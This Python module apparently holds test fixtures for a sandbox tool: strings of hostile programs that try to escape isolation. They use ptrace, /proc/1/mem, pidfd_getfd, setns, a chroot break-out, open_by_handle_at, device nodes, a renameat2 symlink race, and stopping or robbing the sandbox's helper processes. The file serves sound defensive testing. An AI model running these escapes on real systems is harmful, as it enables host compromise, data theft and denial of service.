"""Programs that a hostile image would run, for the Python in it. Each prints what it got hold of."""

from __future__ import annotations

_PROLOGUE = """
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def check(result):
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result
def seize():
    for name in os.listdir("/"):
        print("/", name)
    print(open(canary).read())
    open(canary, "a").write("changed")
canary = sys.argv[1]
"""

TRACE = "check(libc.ptrace(16, 1, 0, 0)); print('traced')"
MEMORY = "print(open('/proc/1/mem', 'rb')); print('memory')"
DESCRIPTORS = """
pidfd = os.pidfd_open(1)
for number in range(64):
    try:
        print("got", check(libc.syscall(438, pidfd, number, 0)))  # pidfd_getfd
    except OSError as error:
        if error.errno != 1:
            raise
sys.exit(1)
"""
LISTING = "print('got', [os.readlink(f'/proc/1/fd/{each}') for each in os.listdir('/proc/1/fd')])"
NAMESPACE = "check(libc.setns(os.open('/proc/1/ns/mnt', os.O_RDONLY), 0)); seize()"
USER_NAMESPACE = "check(libc.unshare(0x10020000)); print('unshared')"
USER_NAMESPACE_BY_CLONE = "check(libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)); print('cloned')"
USER_NAMESPACE_BY_CLONE3 = """
import struct
arguments = struct.pack("=11Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
check(libc.syscall(435, arguments, len(arguments)))
print("cloned")
"""
MOUNT = "check(libc.mount(b'proc', b'/opt', b'proc', 0, None)); print('mounted')"
REMOUNT = "check(libc.mount(None, b'/proc/sys', None, 4096 | 32, None)); print('mounted')"
UMOUNT = "check(libc.umount2(b'/proc/sys', 2)); print('unmounted')"
PIVOT = "os.makedirs('/opt/new', exist_ok=True); check(libc.syscall(155, b'/opt/new', b'/opt/new')); print('pivoted')"
CHROOT = """
top = os.open("/", os.O_RDONLY)
os.makedirs("/opt/jail", exist_ok=True)
os.chroot("/opt/jail")
os.fchdir(top)
for _ in range(100):
    os.chdir("..")
os.chroot(".")
seize()
"""
HANDLE = """
top, handle = os.open(sys.argv[2], os.O_RDONLY), bytes.fromhex(sys.argv[3])
print(os.read(check(libc.open_by_handle_at(top, ctypes.create_string_buffer(handle), os.O_RDONLY)), 1000))
"""
NODE = """
path = "/opt/node"
os.mknod(path, 0o60666, int(sys.argv[2]))
print("made")
"""
SIGNALS = """
pid = int(sys.argv[2])
for call in (
    lambda: os.kill(pid, 9),
    lambda: os.kill(-pid, 9),
    lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
    lambda: os.sched_setaffinity(pid, {0}),
    lambda: os.pidfd_open(pid),
):
    try:
        call()
        print("reached")
    except ProcessLookupError:
        pass
sys.exit(1)
"""
ABSTRACT_SOCKET = """
import socket
with socket.socket(socket.AF_UNIX) as client:
    client.connect("\\0" + sys.argv[2])
    print(client.recv(1000))
"""
KEYRING = "print('got', check(libc.syscall(250, 0, -4, 0)))  # KEYCTL_GET_KEYRING_ID of the user's keyring"
RESTART = "check(libc.reboot(0x01234567)); print('restarted')"
HOSTNAME = "check(libc.sethostname(b'seized', 6)); print('renamed')"

SWAP = """
# A directory and a link that leads out, by turns under one name.
os.makedirs("/opt/swap", exist_ok=True)
forms = ("/proc/1/root%s", "/proc/self/fd/9/../../..%s", "%s", "/proc/self/root/../../..%s")
number = 0
while True:
    os.symlink(forms[number % 4] % os.path.dirname(canary), "/opt/out")
    for _ in range(200):
        check(libc.renameat2(-100, b"/opt/swap", -100, b"/opt/out", 2))  # RENAME_EXCHANGE
    os.unlink("/opt/out")
    number += 1
"""

SPY = """
# Stops each process of the sandbox's own that it meets, and takes what it has open.
import contextlib, signal
def field(pid):
    name, _, rest = open(f"/proc/{pid}/stat").read().partition("(")[2].rpartition(")")
    return name, rest.split()[0]
def rob(pid):
    found = []
    for number in range(32):
        for flags in (os.O_RDONLY, os.O_RDWR):
            with contextlib.suppress(OSError):
                os.close(os.open(f"/proc/{pid}/fd/{number}", flags))
                found.append(f"opened {number}")
        with contextlib.suppress(OSError):
            check(libc.syscall(438, os.pidfd_open(pid), number, 0))
            found.append(f"took {number}")
    with contextlib.suppress(OSError):
        check(libc.ptrace(0x4206, pid, 0, 0))  # PTRACE_SEIZE
        found.append("traced")
    with contextlib.suppress(OSError):
        found.append(f"{os.readlink(f'/proc/{pid}/root')} {os.listdir(f'/proc/{pid}/root/')}")
    return found
robbed = {1}
while True:
    for pid in map(int, filter(str.isdecimal, os.listdir("/proc"))):
        with contextlib.suppress(FileNotFoundError, ProcessLookupError):
            if pid in robbed or not field(pid)[0].startswith("azchroot"):
                continue
            robbed.add(pid)
            os.kill(pid, signal.SIGSTOP)
            try:
                for _ in range(1000):  # the holder lets it go on
                    if field(pid)[1] in "TZt":
                        break
                found = rob(pid)
                if field(pid)[0] == "azchroot-holder":  # else it has become a program of the image meanwhile
                    with open("/opt/seen", "a") as seen:
                        print("met", *found, sep="\\n", file=seen)
            finally:
                # What became a program of the image shall end, and the holder shall see it: the end of a process that
                # is traced is for the tracer to take (ptrace(2)).
                libc.ptrace(0x4207, pid, 0, 0)  # PTRACE_INTERRUPT
                with contextlib.suppress(ChildProcessError):
                    os.waitpid(pid, 0x40000000)  # __WALL
                libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH
                os.kill(pid, signal.SIGCONT)
"""


def program(source: str) -> str:
    """A program as a whole."""
    return _PROLOGUE + source


_TASKS = """
# Sends a signal to each task of the sandbox's own that it meets.
import contextlib, signal, time
open("/opt/begun", "w").close()
def is_task(pid):
    with contextlib.suppress(FileNotFoundError, ProcessLookupError):
        return open(f"/proc/{pid}/comm").read() == "azchroot-holder\\n"
    return False
def tasks():
    while True:
        for pid in map(int, filter(str.isdecimal, os.listdir("/proc"))):
            if pid != 1 and is_task(pid):
                yield pid
"""
STOP_ONCE = (
    _TASKS
    + """
while not os.path.exists(sys.argv[2]):  # a command that runs by now, and is stopped, is continued by nobody
    pass
met = set()
for pid in tasks():
    if pid not in met:
        met.add(pid)
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, signal.SIGSTOP)
            open("/opt/seen", "a").write("stopped\\n")
"""
)
STOP = (
    _TASKS
    + """
while not os.path.exists(sys.argv[2]):
    pass
for pid in tasks():
    with contextlib.suppress(ProcessLookupError):
        while True:
            os.kill(pid, signal.SIGSTOP)
"""
)
KILL = (
    _TASKS
    + """
time.sleep(1)  # so that somebody can see that it has begun
for pid in tasks():
    with contextlib.suppress(ProcessLookupError):
        os.kill(pid, signal.SIGKILL)
"""
)
